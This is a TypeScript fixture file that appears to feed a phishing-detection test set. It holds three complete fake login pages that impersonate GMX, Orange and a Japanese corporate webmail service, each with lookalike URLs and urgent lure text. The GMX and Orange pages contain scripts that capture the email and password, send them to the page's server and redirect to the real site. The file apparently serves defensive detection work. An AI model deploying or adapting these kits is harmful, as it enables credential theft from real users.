import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { page, jsRoute, jsonRoute, pngRoute } from '../parts/l-kit.js';

// Regional webmail kits (Czech, Polish, German, Italian, French, Japanese).

export const entries: Entry[] = [
{
  id: 'l-phish-webmail-gmx-de-postfach',
  label: 'phishing',
  kind: 'webmail-regional',
  url: 'https://gmx-postfach.sicherheitspruefung.de.com/anmelden/?ref=mailfilter',
  routes: {
    'gmx-postfach.sicherheitspruefung.de.com/anmelden/': htmlRoute(page({
      lang: 'de',
      title: 'GMX - E-Mail-Postfach überprüfen',
      css: `body{margin:0;font-family:Arial;background:#f4f4f4}.hd{background:#1c449b;color:#fff;padding:14px 26px;font-size:26px;font-weight:bold}.c{max-width:420px;margin:40px auto;background:#fff;padding:26px}input{width:100%;padding:10px;margin:5px 0 12px;border:1px solid #999}button{width:100%;background:#f5a400;border:0;padding:12px;font-weight:bold}`,
      body: `<div class="hd">GMX</div><div class="c"><h3>Sicherheitsüberprüfung erforderlich</h3><p style="font-size:14px">Wir haben ungewöhnliche Anmeldeaktivitäten in Ihrem Postfach festgestellt. Bitte bestätigen Sie Ihre Zugangsdaten, um eine Sperrung zu vermeiden.</p>
<form id="f"><label>E-Mail-Adresse</label><input name="email" type="email" required><label>Passwort</label><input name="passwort" type="password" required><button>Jetzt bestätigen</button></form><p style="font-size:11px;color:#777">© 1&amp;1 Mail &amp; Media GmbH</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));navigator.sendBeacon('/anmelden/log',JSON.stringify(d));setTimeout(function(){location.href='https://www.gmx.net/'},600)}</script>`,
    })),
  },
},
{
  id: 'l-phish-webmail-orange-fr-messagerie',
  label: 'phishing',
  kind: 'webmail-regional',
  url: 'https://messagerie-orange.fr.identification-client.net/mail/login.html',
  routes: {
    'messagerie-orange.fr.identification-client.net/mail/login.html': htmlRoute(page({
      lang: 'fr',
      title: 'Identifiez-vous avec votre compte Orange',
      css: `body{margin:0;font-family:Helvetica Neue,Arial;background:#fff}.hd{background:#000;padding:12px 20px}.sq{width:40px;height:40px;background:#ff7900;color:#fff;font-weight:bold;display:flex;align-items:flex-end;padding:3px;box-sizing:border-box;font-size:11px}.c{max-width:420px;margin:40px auto}input{width:100%;padding:12px;margin:6px 0 14px;border:2px solid #ccc}button{background:#ff7900;border:0;padding:12px 26px;font-weight:bold}#s2{display:none}`,
      body: `<div class="hd"><div class="sq">orange</div></div><div class="c"><h1>Identifiez-vous</h1><div id="s1"><label>Adresse mail ou numéro de mobile</label><input id="login"><button id="b1">Continuer</button></div><div id="s2"><p id="lg"></p><label>Mot de passe</label><input type="password" id="pw"><button id="b2">S'identifier</button></div><p style="font-size:12px;color:#555;margin-top:30px">Mot de passe oublié ? &middot; Créer un compte</p></div>
<script>b1.onclick=function(){lg.textContent=login.value;s1.style.display='none';s2.style.display='block'};b2.onclick=function(){fetch('/mail/check.php',{method:'POST',body:new URLSearchParams({l:login.value,p:pw.value})}).then(function(){location.href='https://messagerie.orange.fr/'})}</script>`,
    })),
  },
},
{
  id: 'l-phish-webmail-jp-corporate-mail-update',
  label: 'phishing',
  kind: 'webmail-regional',
  url: 'https://mail-update.kaisha-webmail-sys.jp.net/cgi-bin/login.cgi?lang=ja',
  routes: {
    'mail-update.kaisha-webmail-sys.jp.net/cgi-bin/login.cgi': htmlRoute(page({
      lang: 'ja',
      title: 'Webメール ログイン',
      css: `body{margin:0;font-family:"Hiragino Kaku Gothic ProN",Meiryo,sans-serif;background:#eef1f5}.c{max-width:400px;margin:70px auto;background:#fff;padding:28px;border-top:4px solid #1a5fb4}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #aab}button{width:100%;background:#1a5fb4;color:#fff;border:0;padding:11px}`,
      body: `<div class="c"><h2>Webメール</h2><p style="font-size:13px;color:#c00">【重要】メールサーバー移行のお知らせ：12月2日までにアカウント情報の確認をお願いいたします。確認されない場合、メールの送受信ができなくなります。</p>
<form method="post" action="/cgi-bin/auth.cgi"><label>メールアドレス</label><input name="mailaddr" type="email" required><label>パスワード</label><input name="passwd" type="password" required><button>ログイン</button></form><p style="font-size:11px;color:#888">情報システム部 ヘルプデスク</p></div>`,
    })),
  },
},
];
